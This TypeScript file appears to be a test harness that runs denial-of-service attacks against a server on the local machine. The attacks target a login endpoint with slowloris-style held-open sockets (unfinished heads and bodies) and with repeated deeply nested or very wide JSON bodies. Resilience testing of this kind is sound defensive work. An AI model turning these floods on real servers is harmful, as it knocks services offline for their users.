// A process of its own that attacks a server on this machine until it is ended: `attacker.ts PORT ATTACK`.
import http from 'node:http';
import net from 'node:net';

const SOCKETS = 1_000;
const AT_ONCE = 4;
/** Whoever was cut comes back after this. */
const REST_MS = 1_000;
/** As deep as 1 MB allows. */
const NESTED = '['.repeat(500_000) + ']'.repeat(500_000);
const WIDE = `[${'0,'.repeat(500_000)}0]`;
/** What is left to somebody who keeps below every limit. */
const SMALL_WIDE = `[${'0,'.repeat(15_000)}0]`;

const attacks: Readonly<Record<string, (port: number) => void>> = {
  unfinishedBodies: (port) => {
    hold(port, `${headOf(1_000)}\r\n{`);
  },
  unfinishedHeads: (port) => {
    hold(port, headOf(1_000));
  },
  nestedJson: (port) => {
    repeat(port, NESTED);
  },
  wideJson: (port) => {
    repeat(port, WIDE);
  },
  smallWideJson: (port) => {
    repeat(port, SMALL_WIDE);
  },
};

const [port = '', attack = ''] = process.argv.slice(2);
const begin = attacks[attack];
if (!begin) throw new Error(`There is no attack called "${attack}".`);
begin(Number(port));
process.stdout.write('attacking\n');

function headOf(length: number): string {
  return `POST /api/auth/login HTTP/1.1\r\nhost: muster\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n`;
}

/** Opens sockets that say a beginning and then nothing more. */
function hold(at: number, beginning: string): void {
  const open = () => {
    const socket = net.connect(at, '127.0.0.1');
    socket.write(beginning);
    socket.resume();
    socket.on('error', () => undefined); // cut: the next line opens another
    socket.on('close', () => setTimeout(open, REST_MS));
  };
  for (let n = 0; n < SOCKETS; n += 1) open();
}

/** Sends the body over some connections, again as soon as it was answered or cut off. */
function repeat(at: number, body: string): void {
  const send = () => {
    const headers = { 'content-type': 'application/json', 'content-length': body.length };
    const path = '/api/auth/login';
    const request = http.request({ port: at, host: '127.0.0.1', method: 'POST', path, headers });
    request.on('response', (response) => response.resume());
    request.on('error', () => undefined);
    request.on('close', () => setImmediate(send));
    request.end(body);
  };
  for (let n = 0; n < AT_ONCE; n += 1) send();
}
